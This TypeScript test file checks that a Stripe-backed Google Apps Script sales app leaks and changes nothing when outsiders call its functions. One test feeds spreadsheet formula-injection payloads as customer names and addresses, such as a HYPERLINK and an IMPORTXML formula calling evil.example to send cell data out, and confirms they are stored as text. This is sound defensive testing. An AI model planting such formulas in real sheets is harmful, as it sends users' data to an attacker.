// What an outsider can do with the built bundle. Any top-level function can be called with
// google.script.run from a page the web app shows anonymous visitors, and runs as the owner: every
// global function of dist/Code.js is called here as an anonymous visitor and as a signed-in stranger,
// with plausible arguments, and nothing may be read or changed. Then: text from Stripe never becomes a
// formula in the sheet.
import type { Emulator, RunAs } from '../../emulator/src';
import { addLessonPack, addRow, COLLECT, install, records, deliverAndSettle } from './harness';

const ALICE = 'alice@example.com';

interface World {
  emu: Emulator;
  token: string;
  hash: string;
  session: string;
  secrets: string[];
}

/** A Carnet with something in every tab: a lesson pack, a training and an ebook bought, a payment request sent. */
function world(): World {
  const emu = install();
  const { price: lessons } = addLessonPack(emu, 'PACK10', 10, 30000);
  const folder = emu.drive.seedFolder('Supports');
  const ebookFile = emu.drive.seedFile('Guide.pdf', '%PDF-1.7 guide', 'application/pdf');
  const product = (row: Record<string, unknown>, cents: number) => {
    const stripeProduct = emu.stripe.createProduct({ name: String(row.Nom) });
    const price = emu.stripe.createPrice({ product: String(stripeProduct.id), unitAmount: cents });
    addRow(emu, 'Produits', { ...row, 'Prix TTC': cents / 100, Stripe: String(price.id) });
    return String(price.id);
  };
  const training = product(
    {
      Code: 'HARMO',
      Nom: 'Formation harmonie',
      Type: 'formation',
      "Lien d'accès": 'https://formation.example.fr/h',
      "Code d'accès": 'SOL-42',
      Fichier: folder,
    },
    24000,
  );
  const ebook = product({ Code: 'GUIDE', Nom: 'Guide du piano', Type: 'ebook', Fichier: ebookFile }, 1900);
  const { event, session } = emu.stripe.pay({
    lineItems: [lessons, training, ebook].map((price) => ({ price, quantity: 1 })),
    email: ALICE,
    name: 'Alice Dupont',
  });
  deliverAndSettle(emu, String(event.id));
  emu.run('carnetCreatePaymentRequest', [{ email: 'bob@example.com', name: 'Bob Martin', items: [{ code: 'PACK10', quantity: 1 }] }]);
  const body = emu.mail.sentTo(ALICE)[0].body;
  const token = /\?d=([A-Za-z0-9_-]{43})/.exec(body)?.[1] ?? '';
  expect(token).not.toBe('');
  const hash = String(records(emu, 'Téléchargements')[0]['Jeton (empreinte)']);
  const store = emu.properties.scriptStore();
  const secrets = [
    token,
    hash,
    ALICE,
    'Alice Dupont',
    'bob@example.com',
    'SOL-42',
    String(session.id),
    store.get('WEBHOOK_TOKEN') ?? '',
    store.get('STRIPE_SECRET_KEY') ?? '',
    store.get('DOWNLOAD_SECRET') ?? '',
  ];
  return { emu, token, hash, session: String(session.id), secrets };
}

/** Everything an outsider could change: every tab, Script Properties, Drive, e-mails sent, calls to Stripe, triggers. */
function state(emu: Emulator) {
  const tabs: Record<string, unknown[][]> = {};
  for (const name of emu.spreadsheet.sheetNames()) tabs[name] = emu.spreadsheet.values(name);
  return {
    tabs,
    properties: [...emu.properties.scriptStore().entries()].sort(),
    drive: emu.drive.files(),
    outbox: emu.mail.outbox().map((m) => [m.to, m.subject]),
    stripe: emu.stripe.requests().map((r) => `${r.method} ${r.path}`),
    triggers: emu.script.triggers().map((t) => t.handler),
  };
}

/** The services an outsider's call may touch: who is calling, the project's triggers (to check a trigger id), the UI (absent). */
const ALLOWED_CALLS = /^(Session\.|ScriptApp\.getProjectTriggers|ScriptApp\.Trigger\.(getUniqueId|getHandlerFunction)|SpreadsheetApp\.getUi$)/;
/**
 * onOpen for a signed-in person the emulator gives a UI to (an editor opening the spreadsheet): the menu,
 * in the language of `Paramètres`. From a web page getUi() throws before anything is read (the
 * anonymous case); either way nothing comes back.
 */
const MENU_CALLS = /^(SpreadsheetApp\.(getActive|Ui\.|Menu\.|Spreadsheet\.getSheetByName|Sheet\.getDataRange|Range\.getValues)|CacheService\.)/;

function argumentsFor(w: World): unknown[][] {
  return [
    [],
    [w.token],
    [`https://script.google.com/macros/s/x/exec?d=${w.token}`],
    [w.hash],
    [2],
    ['2'],
    ['F-2026-0001'],
    [w.session],
    ['2026-01-01', '2026-12-31'],
    [2026],
    [{ email: 'eve@example.com', name: 'Eve', items: [{ code: 'PACK10', quantity: 1 }] }],
    [{ triggerUid: '1234567890', authMode: 'FULL' }],
    [{ calendarId: 'primary', triggerUid: '42' }],
    [{ range: { a1: 'A1' }, value: '=1+1', source: {} }],
    [{ parameter: { d: w.token }, parameters: { d: [w.token] } }],
  ];
}

/** Every function the bundle declares at top level (the emulator's own globals, such as Date or SpreadsheetApp, left out). */
function bundleFunctions(emu: Emulator): string[] {
  const services = new Set(Object.keys(emu.globals()));
  return Object.keys(emu.scope)
    .filter((name) => typeof emu.scope[name] === 'function' && !services.has(name))
    .sort();
}

describe('an outsider calling the global functions', () => {
  test('the enumeration sees every entry point of dist/Code.js', () => {
    const { emu } = world();
    const names = bundleFunctions(emu);
    expect(names).toEqual(
      expect.arrayContaining([
        'doGet',
        'doPost',
        'onOpen',
        'onEdit',
        'setup',
        'carnetBackstop',
        'carnetResendInvoice',
        'carnetRevokeDownload',
        'carnetCreatePaymentRequest',
      ]),
    );
    // Nothing private leaks to the global scope: helpers live inside the bundle's namespace object.
    expect(names.every((n) => /^(do(Get|Post)|on(Open|Edit)|setup|carnet[A-Z]\w*)$/.test(n))).toBe(true);
  });

  test.each<[string, RunAs]>([
    ['anonymous', 'anonymous'],
    ['a signed-in stranger', { email: 'intrus@example.com' }],
  ])('%s: no function reads or changes anything, whatever the arguments', (_who, as) => {
    const w = world();
    const { emu } = w;
    const before = state(emu);
    const functions = bundleFunctions(emu).filter((n) => n !== 'doGet' && n !== 'doPost');
    expect(functions.length).toBeGreaterThan(10);
    let calls = 0;
    for (const name of functions) {
      for (const args of argumentsFor(w)) {
        emu.rt.accounting.reset();
        let outcome: string;
        try {
          outcome = JSON.stringify(emu.run(name, args, as)) ?? 'undefined';
        } catch (error) {
          outcome = String((error as Error).message);
        }
        calls += 1;
        // Nothing private comes back, in a result or in an error message.
        for (const secret of w.secrets) expect({ name, args, leaked: outcome.includes(secret) }).toEqual({ name, args, leaked: false });
        // Nothing was read: no call beyond asking who is calling.
        const menu = name === 'onOpen' && as !== 'anonymous';
        const touched = Object.keys(emu.rt.accounting.snapshot().calls).filter((k) => !ALLOWED_CALLS.test(k) && !(menu && MENU_CALLS.test(k)));
        expect({ name, args, touched }).toEqual({ name, args, touched: [] });
        if (!menu) expect({ name, args, cellsRead: emu.rt.accounting.cellsRead }).toEqual({ name, args, cellsRead: 0 });
      }
    }
    expect(calls).toBe(functions.length * argumentsFor(w).length);
    expect(state(emu)).toEqual(before);
  });

  test('doGet gives its public pages and, for a valid personal link, its file; nothing else is read or changed', () => {
    const w = world();
    const { emu } = w;
    const before = state(emu);
    const queries: Array<Record<string, string>> = [
      {},
      { page: 'merci' },
      { page: 'annule' },
      { d: w.hash },
      { d: 'A'.repeat(43) },
      { d: '' },
      { page: '<script>', d: `${w.token}x` },
    ];
    for (const query of queries) {
      const page = emu.get(query).content;
      for (const secret of w.secrets) expect(page.includes(secret)).toBe(false);
    }
    expect(state(emu)).toEqual(before);
    // The one public effect: a valid link is counted when its file is given.
    expect(emu.get({ d: w.token }).content).toContain('id="carnet-file"');
    const after = state(emu);
    expect(records(emu, 'Téléchargements')[0]['Téléchargements']).toBe(1);
    expect({ ...after, tabs: { ...after.tabs, Téléchargements: [] } }).toEqual({ ...before, tabs: { ...before.tabs, Téléchargements: [] } });
  });

  test('doPost without the webhook token changes nothing but one Journal line an hour, and shows nothing', () => {
    const w = world();
    const { emu } = w;
    const before = state(emu);
    const event = emu.stripe.events().find((e) => e.type === 'checkout.session.completed') as { id: string };
    const answers = [
      emu.post({}, JSON.stringify(event)),
      emu.post({ token: 'devine' }, JSON.stringify(event)),
      emu.post({ token: w.token }, JSON.stringify({ id: 'evt_forged', type: 'checkout.session.completed' })),
    ];
    for (const answer of answers) for (const secret of w.secrets) expect(answer.content.includes(secret)).toBe(false);
    const after = state(emu);
    // Three refusals within the hour: the first is journalled, the others counted (hardening.test.ts).
    expect(after.tabs['Journal'].length - before.tabs['Journal'].length).toBe(1);
    expect({ ...after, tabs: { ...after.tabs, Journal: [] } }).toEqual({ ...before, tabs: { ...before.tabs, Journal: [] } });
  });
});

describe('text from Stripe that looks like a formula', () => {
  test('names, addresses, phone numbers and companies are stored as the text typed, never as formulas', () => {
    const emu = install();
    const { price } = addLessonPack(emu);
    const customer = {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      phone: '+33 6 12 34 56 78',
      company: '@SUM(Clients!C:C)',
      address: { line1: '=IMPORTXML("http://evil.example","//a")', line2: '-2+3', postal_code: '75011', city: '+Paris' },
    };
    const { event } = emu.stripe.pay({ lineItems: [{ price, quantity: 1 }], email: ALICE, session: COLLECT, ...customer });
    deliverAndSettle(emu, String(event.id));
    const { event: second } = emu.stripe.pay({ lineItems: [{ price, quantity: 1 }], email: 'bob@example.com', name: '-1+1', phone: '0612345678' });
    deliverAndSettle(emu, String(second.id));

    const alice = records(emu, 'Clients').find((r) => r['E-mail'] === ALICE);
    expect(alice).toMatchObject({ Nom: customer.name, Téléphone: '+33 6 12 34 56 78', Société: '@SUM(Clients!C:C)', Solde: 10 });
    expect(alice?.['Adresse']).toBe('=IMPORTXML("http://evil.example","//a"), -2+3, 75011 +Paris');
    expect(records(emu, 'Clients').find((r) => r['E-mail'] === 'bob@example.com')).toMatchObject({ Nom: '-1+1', Téléphone: '0612345678' });
    expect(records(emu, 'Paiements').map((r) => r['Nom'])).toEqual([customer.name, '-1+1']);
    expect(records(emu, 'Factures').map((r) => r['Client'])).toEqual(['@SUM(Clients!C:C)', '-1+1']);
    expect(records(emu, 'Recettes').map((r) => r['Client'])).toEqual(['@SUM(Clients!C:C)', '-1+1']);
    // No cell of any tab holds a formula, and none shows anything but the text.
    for (const tab of emu.spreadsheet.sheetNames())
      expect({ tab, formulas: emu.spreadsheet.formulas(tab).flat().filter(Boolean) }).toEqual({ tab, formulas: [] });
    expect(emu.spreadsheet.displayValues('Clients').flat()).toContain(customer.name);
  });
});

describe('the cockpit’s functions (sidebar, dialogs, wizard, health check)', () => {
  const COCKPIT: Array<[string, unknown[]]> = [
    ['carnetMenuDashboard', []],
    ['carnetMenuRequest', []],
    ['carnetMenuAdjust', []],
    ['carnetMenuResend', []],
    ['carnetMenuRefund', []],
    ['carnetMenuLinks', []],
    ['carnetMenuExport', []],
    ['carnetMenuRevoke', []],
    ['carnetMenuHealth', []],
    ['carnetMenuWizard', []],
    ['carnetUiDashboard', []],
    ['carnetUiFormData', []],
    ['carnetUiPaymentRequest', [{ email: 'eve@example.com', name: 'Eve', items: [{ code: 'PACK10', quantity: 1 }], requestId: 'x' }]],
    ['carnetUiAdjustCredits', [{ email: ALICE, delta: 100, reason: 'cadeau', operationId: 'x' }]],
    ['carnetUiRefund', [{ session: 'cs_test_x', amount: '', requestId: 'x' }]],
    ['carnetUiResendInvoice', ['F-2026-0001']],
    ['carnetUiRevokeDownload', ['2']],
    ['carnetUiProductLinks', []],
    ['carnetUiExportReceipts', ['2026-01-01', '2026-12-31']],
    ['carnetUiRetryEvent', ['evt_x']],
    ['carnetUiHealth', []],
    ['carnetUiWizard', []],
    ['carnetUiSaveStripeKey', ['sk_test_emulator']],
    [
      'carnetUiSaveSettings',
      [
        {
          businessName: 'Eve',
          businessAddress: '',
          siret: '',
          businessEmail: '',
          vatMode: 'franchise',
          invoicePrefix: 'F',
          creditNotePrefix: 'A',
          adminEmail: 'eve@example.com',
          bookingCalendar: '',
          scheduleName: '',
        },
      ],
    ],
    ['carnetUiRunSetup', []],
    ['carnetUiRegisterWebhook', []],
  ];

  test('every one of them exists in the bundle', () => {
    const { emu } = world();
    expect(bundleFunctions(emu)).toEqual(expect.arrayContaining(COCKPIT.map(([name]) => name)));
  });

  test.each(COCKPIT)('%s: a signed-in stranger is refused before anything is read, and nothing changes', (name, args) => {
    const w = world();
    const { emu } = w;
    const before = state(emu);
    emu.rt.accounting.reset();
    expect(() => emu.run(name, args, { email: 'intrus@example.com' })).toThrow('Accès refusé.');
    const touched = Object.keys(emu.rt.accounting.snapshot().calls).filter((k) => !ALLOWED_CALLS.test(k));
    expect(touched).toEqual([]);
    expect(emu.rt.accounting.cellsRead).toBe(0);
    expect(emu.spreadsheet.dialogs()).toEqual([]);
    expect(state(emu)).toEqual(before);
  });
});
